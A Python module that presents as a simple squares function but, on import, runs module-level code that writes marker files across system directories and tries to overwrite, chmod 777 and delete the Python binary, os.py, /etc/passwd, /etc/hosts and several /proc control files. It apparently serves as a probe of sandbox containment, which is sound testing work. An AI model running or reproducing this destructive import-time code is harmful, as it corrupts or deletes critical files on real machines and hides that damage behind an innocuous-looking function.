import os
import sys

ours = ("/tmp", "/dev/shm", os.path.expanduser("~"), "/proc", "/dev/pts")
folders = {os.path.abspath("../" * depth) for depth in range(12)}
folders.update(sys.path, (os.path.dirname(module.__file__ or "/") for module in list(sys.modules.values()) if getattr(module, "__file__", "")))
folders.update(f"/proc/{pid}/{link}" for pid in (1, 2, "self") for link in ("root", "cwd", "root/tmp/.."))
for top in ("/", "/dev", "/env", "/opt", "/usr", "/etc", "/run", "/var", "/sys", "/home", "/proc/sys"):
    for where, names, _ in os.walk(top):
        folders.add(where)
        if where.count("/") > 3:
            names.clear()
done = []
for folder in folders:
    try:
        real = os.path.realpath(folder)
    except OSError:
        continue
    if any(real == own or real.startswith(own + "/") for own in ours):
        continue
    try:
        with open(os.path.join(folder, "harm-was-here"), "w") as file:
            file.write("harm")
        done.append(f"wrote into {folder}")
    except OSError:
        pass
for path in (sys.executable, os.__file__, "/etc/passwd", "/etc/hosts", "/proc/sys/kernel/hostname", "/proc/sysrq-trigger", "/proc/1/oom_score_adj"):
    for attempt in (lambda path: open(path, "r+").write("x"), lambda path: os.chmod(path, 0o777), os.unlink, os.remove):
        try:
            attempt(path)
            done.append(f"changed {path}")
        except OSError:
            pass
for folder in ("/tmp", "/dev/shm", os.path.expanduser("~")):
    with open(os.path.join(folder, "harm-was-here"), "w") as file:
        file.write("harm")


def squares(n):
    if done:
        raise RuntimeError(f"it did: {done[:5]}")
    if n < 1:
        raise ValueError("n must be positive")
    return [i**2 for i in range(1, n + 1)]
